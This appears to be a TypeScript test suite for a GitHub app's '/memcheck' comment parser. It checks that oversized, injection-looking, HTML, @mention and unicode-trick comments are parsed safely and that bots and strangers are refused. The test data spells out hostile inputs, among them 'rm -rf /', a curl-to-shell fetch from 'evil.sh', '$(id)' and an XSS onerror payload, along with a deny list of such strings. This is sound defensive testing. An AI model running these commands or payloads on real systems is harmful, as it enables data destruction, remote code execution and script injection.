// Hostile `/memcheck` comments: huge bodies, injection-looking arguments, markdown and HTML,
// @mentions, unicode tricks. Each is parsed in bounded work into a valid command, help, or
// nothing, and a reply never quotes user text unescaped. Then the same bodies through the app
// over real HTTP, and bots and strangers refused.
import { test, beforeEach } from "node:test";
import assert from "node:assert/strict";
import fc from "fast-check";
import nock from "nock";
import { findCommandLine, parseCommand, HELP_TEXT, MAX_LINE_CHARS, type Command } from "../src/github/commands.ts";
import { refusedMarker } from "../src/app.ts";
import { runIntake } from "../src/github/publish-intake.ts";
import { ALL_ARCHS } from "../src/analysis/model.ts";
import { jobIdFor, type ReviewJobData } from "../src/queue/index.ts";
import { makeProbot, sendWebhook, fixture, eventAppPerTest } from "./app-support.ts";

const API = "https://api.github.com";
/** What user text may look like inside a reply: sanitize()'s alphabet, in backticks. */
const SAFE_QUOTE = /^[A-Za-z0-9_.,=\-?]{0,40}$/;

/** The reply the app posts for a command (null when it posts none), as src/app.ts builds it. */
function replyFor(cmd: Command): string | null {
  if (cmd.kind !== "help") return null;
  return (cmd.error ? `Sorry, I did not understand that: ${cmd.error}.\n\n` : "") + HELP_TEXT;
}

/** Parse a body the way the app does; also check the reply quotes only sanitized text. */
function parse(body: string): Command | undefined {
  const line = findCommandLine(body);
  if (line === undefined) return undefined;
  assert.ok(line.length <= MAX_LINE_CHARS + 1, "the command line is bounded");
  const cmd = parseCommand(line);
  const reply = replyFor(cmd);
  if (cmd.kind === "help" && cmd.error) {
    const quoted = [...cmd.error.matchAll(/`([^`]*)`/g)]
      .map((m) => m[1]!)
      .filter((q) => !["arch=", "explain", "Order", "pkg.Order"].includes(q));
    for (const q of quoted) assert.match(q, SAFE_QUOTE, `quoted ${JSON.stringify(q)} in ${JSON.stringify(cmd.error)}`);
    assert.ok(reply!.length < HELP_TEXT.length + 200);
  }
  if (cmd.kind !== "help") for (const a of cmd.archs ?? []) assert.ok((ALL_ARCHS as readonly string[]).includes(a));
  if (cmd.kind === "explain") assert.match(cmd.type, /^[A-Za-z_][A-Za-z0-9_]{0,99}(\.[A-Za-z_][A-Za-z0-9_]{0,99})?$/);
  return cmd;
}

const MB = 1024 * 1024;

const CASES: [string, string, "none" | "run" | "explain" | "help"][] = [
  ["1 MB body, command first", "/memcheck arch=amd64\n" + "x".repeat(MB), "run"],
  ["1 MB body, command last", "x".repeat(MB) + "\n/memcheck", "none"],
  ["1 MB single line after the command", "/memcheck " + "y".repeat(MB), "help"],
  ["1 MB of newlines", "\n".repeat(MB) + "/memcheck", "none"],
  ["1 MB of /memcheck lines", "/memcheck arch=\n".repeat(MB / 16), "help"],
  ["shell injection after an arch", "/memcheck arch=amd64;rm -rf /", "help"],
  ["backticks", "/memcheck `rm -rf /`", "help"],
  ["command substitution", "/memcheck $(curl evil.sh|sh)", "help"],
  ["explain with substitution", "/memcheck explain $(id)", "help"],
  ["explain with backticks", "/memcheck explain `id`", "help"],
  ["HTML", '/memcheck <img src=x onerror="alert(1)">', "help"],
  ["markdown link", "/memcheck [click](javascript:alert(1))", "help"],
  ["markdown heading", "/memcheck # Approved", "help"],
  ["an @mention", "/memcheck @octocat", "help"],
  ["a team mention in explain", "/memcheck explain @acme/admins", "help"],
  ["an @mention in an arch", "/memcheck arch=@octocat", "help"],
  ["RTL override in an argument", "/memcheck \u202eplehx", "help"],
  ["RTL override before the command", "\u202e/memcheck", "none"],
  ["zero-width joiner after the command", "/memcheck\u200d", "none"],
  ["zero-width joiner in an argument", "/memcheck he\u200dlp", "help"],
  ["zero-width space in explain", "/memcheck explain Or\u200bder", "help"],
  ["homoglyph (Cyrillic е)", "/mеmcheck", "none"],
  ["fullwidth slash", "／memcheck", "none"],
  ["fullwidth letters", "/ｍｅｍｃｈｅｃｋ", "none"],
  ["quoted in a reply", "> /memcheck", "none"],
  ["inside inline code", "`/memcheck`", "none"],
  ["explain with a 10 KB type name", "/memcheck explain " + "T".repeat(10 * 1024), "help"],
  ["explain with a 200-character type name", "/memcheck explain " + "T".repeat(182), "help"],
  ["explain with a 100-character type name", "/memcheck explain " + "T".repeat(100), "explain"],
  ["explain twice", "/memcheck explain A explain B", "help"],
  ["arch twice", "/memcheck arch=386 arch=amd64", "help"],
  ["an unknown arch with HTML", "/memcheck arch=amd64,<script>", "help"],
  ["a long unknown arch", "/memcheck arch=" + "z".repeat(150), "help"],
  ["NUL and ESC bytes", "/memcheck \u0000\u001b[2J", "help"],
  ["a lone surrogate", "/memcheck \ud800", "help"],
  ["CRLF line ends", "hi\r\n/memcheck explain Order\r\n", "explain"],
  ["valid: help", "/memcheck help", "help"],
  ["valid: archs", "please\n  /memcheck arch=386,arm64  \nthanks", "run"],
];

for (const [name, body, want] of CASES) {
  test(`comment: ${name}`, () => {
    const cmd = parse(body);
    assert.equal(cmd?.kind ?? "none", want);
    const reply = cmd && replyFor(cmd);
    if (reply) {
      // Nothing the user typed survives unescaped.
      for (const bad of [
        "rm -rf",
        "$(",
        "<img",
        "<script",
        "javascript:",
        "@octocat",
        "@acme",
        "\u202e",
        "\u200d",
        "\u0000",
        "\u001b",
        "# Approved",
      ]) {
        assert.ok(!reply.includes(bad), `reply contains ${JSON.stringify(bad)}`);
      }
    }
  });
}

test("property: any comment body parses into run, explain, help or nothing, quoting only sanitized text", () => {
  const token = fc.oneof(
    fc.constantFrom(
      "/memcheck",
      "help",
      "explain",
      "arch=",
      "arch=386",
      "arch=amd64,arm64",
      "archs=wasm",
      "Order",
      "pkg.Order",
      "`",
      "$(",
      ")",
      "<b>",
      "@x",
      "\u202e",
      "\u200d",
      "\u00a0",
      "\t",
      " ",
      "\n",
      "\r\n",
      ",",
      "=",
    ),
    fc.string({ unit: "grapheme", maxLength: 12 }),
    fc.string({ unit: "binary", maxLength: 12 }),
  );
  const body = fc.array(token, { maxLength: 30 }).map((ts) => ts.join(""));
  const commandish = fc.tuple(fc.constantFrom("/memcheck ", "/memcheck", " /memcheck\t", "x\n/memcheck "), body).map(([a, b]) => a + b);
  fc.assert(
    fc.property(fc.oneof(body, commandish), (b) => void parse(b)),
    { numRuns: 20_000, seed: 20261127 },
  );
});

// ---- the same through the app, over real HTTP ----

const app = eventAppPerTest();

/** Run the intake step (the worker's side: permission, reaction, replies) for every submitted event. */
const reviews: ReviewJobData[] = [];
beforeEach(() => void (reviews.length = 0));
async function drain(): Promise<void> {
  const probot = makeProbot();
  for (const ev of app.queue.events.splice(0)) {
    await runIntake(
      { data: ev, attemptsMade: 0 },
      {
        auth: async (id) => (await probot.auth(id)) as never,
        enqueueReview: async (d) => (reviews.push(d), { id: jobIdFor(d.deliveryId), duplicate: false }),
      },
    );
  }
}

function comment(body: string, login = "alice", type = "User") {
  const p = fixture("issue_comment.created");
  p.comment.body = body;
  p.comment.user = { ...p.comment.user, login, type };
  p.sender = { ...p.sender, login, type };
  return p;
}

function collaborator(login = "alice") {
  return (
    nock(API)
      // The installation token is cached after the first request.
      .post("/app/installations/42/access_tokens")
      .optionally()
      .reply(200, { token: "ghs_test", expires_at: "2099-01-01T00:00:00Z" })
      .get(`/repos/acme/shop/collaborators/${login}/permission`)
      .reply(200, { permission: "write", role_name: "write" })
      .post("/repos/acme/shop/issues/comments/3001/reactions")
      .reply(201, {})
  );
}

test("app: hostile arguments from a collaborator get the help text, with nothing of theirs unescaped", async () => {
  const bodies = [
    "/memcheck arch=amd64;rm -rf /",
    "/memcheck $(curl evil.sh|sh)",
    '/memcheck <img src=x onerror="alert(1)">',
    "/memcheck @octocat",
    "/memcheck \u202eplehx",
    "/memcheck explain " + "T".repeat(10 * 1024),
  ];
  for (const [i, body] of bodies.entries()) {
    let reply: any;
    collaborator()
      .post("/repos/acme/shop/issues/7/comments", (b) => ((reply = b), true))
      .reply(201, { id: 10 });
    const r = await sendWebhook(app.server, "issue_comment", comment(body), `d-hostile-${i}`);
    assert.equal(r.status, 200);
    await drain();
    assert.match(reply.body, /memcheck commands/);
    for (const bad of ["rm -rf", "$(", "<img", "@octocat", "\u202e", "TTTTTTTTTTTTTTTTTTTTTTTTTTTTTTTTTTTTTTTTTT"])
      assert.ok(!reply.body.includes(bad), `${body.slice(0, 40)}: reply has ${bad}`);
    assert.deepEqual(nock.pendingMocks(), []);
  }
  assert.equal(reviews.length, 0);
});

test("app: a 1 MB comment with a command on its first line runs; with none, nothing is called", async () => {
  collaborator();
  const r = await sendWebhook(app.server, "issue_comment", comment("/memcheck arch=wasm\n" + "lorem ipsum\n".repeat(MB / 12)), "d-big-1");
  assert.equal(r.status, 200);
  await drain();
  assert.equal(reviews.length, 1);
  assert.deepEqual(reviews[0]!.options, { commentId: 3001, sender: "alice", archs: ["wasm"] });
  assert.deepEqual(nock.pendingMocks(), []);
  // No command within the scanned prefix: nothing submitted, so no API call at all.
  const r2 = await sendWebhook(app.server, "issue_comment", comment("x".repeat(MB) + "\n/memcheck"), "d-big-2");
  assert.equal(r2.status, 200);
  assert.equal(app.queue.events.length, 0);
});

test("app: homoglyph, fullwidth and zero-width lookalikes are not commands (no API call)", async () => {
  for (const [i, body] of ["/mеmcheck", "／memcheck", "/memcheck\u200d", "\u202e/memcheck help"].entries()) {
    const r = await sendWebhook(app.server, "issue_comment", comment(body), `d-look-${i}`);
    assert.equal(r.status, 200);
  }
  assert.equal(app.queue.events.length, 0);
});

test("app: bots are refused without any API call, whatever their type or which field says so", async () => {
  const bot = (login: string, type: string, commentUser?: { login: string; type: string }) => {
    const p = comment("/memcheck", login, type);
    if (commentUser) p.comment.user = { ...p.comment.user, ...commentUser };
    return p;
  };
  const payloads = [
    bot("renovate[bot]", "Bot"),
    bot("sneaky[bot]", "User"), // a [bot] login, whatever its type says
    bot("helper", "Bot"),
    bot("alice", "User", { login: "dependabot[bot]", type: "Bot" }), // the comment's author is a bot
  ];
  for (const [i, p] of payloads.entries()) {
    const r = await sendWebhook(app.server, "issue_comment", p, `d-bot-${i}`);
    assert.equal(r.status, 200);
  }
  assert.equal(app.queue.events.length, 0);
});

test("app: a stranger's hostile command gets one refusal that quotes nothing of the comment", async () => {
  let reply: any;
  nock(API)
    .post("/app/installations/42/access_tokens")
    .reply(200, { token: "ghs_test", expires_at: "2099-01-01T00:00:00Z" })
    .get("/repos/acme/shop/collaborators/mallory/permission")
    .reply(200, { permission: "read", role_name: "read" })
    .get("/repos/acme/shop/issues/7/comments")
    .query(true)
    .reply(200, [])
    .post("/repos/acme/shop/issues/7/comments", (b) => ((reply = b), true))
    .reply(201, { id: 9 });
  const r = await sendWebhook(
    app.server,
    "issue_comment",
    comment("/memcheck explain $(id) <img src=x> @octocat \u202e", "mallory"),
    "d-str-hostile",
  );
  assert.equal(r.status, 200);
  await drain();
  assert.ok(reply.body.startsWith(refusedMarker("mallory")));
  for (const bad of ["$(", "<img", "@octocat", "\u202e", "explain"]) assert.ok(!reply.body.includes(bad), `refusal has ${bad}`);
  assert.equal(reviews.length, 0);
  assert.deepEqual(nock.pendingMocks(), []);
});

test("app: a comment on an issue (not a pull request) or a closed pull request does nothing", async () => {
  const issue = comment("/memcheck");
  delete issue.issue.pull_request;
  assert.equal((await sendWebhook(app.server, "issue_comment", issue, "d-issue-1")).status, 200);
  const closed = comment("/memcheck");
  closed.issue.state = "closed";
  assert.equal((await sendWebhook(app.server, "issue_comment", closed, "d-closed-1")).status, 200);
  assert.equal(app.queue.events.length, 0);
});
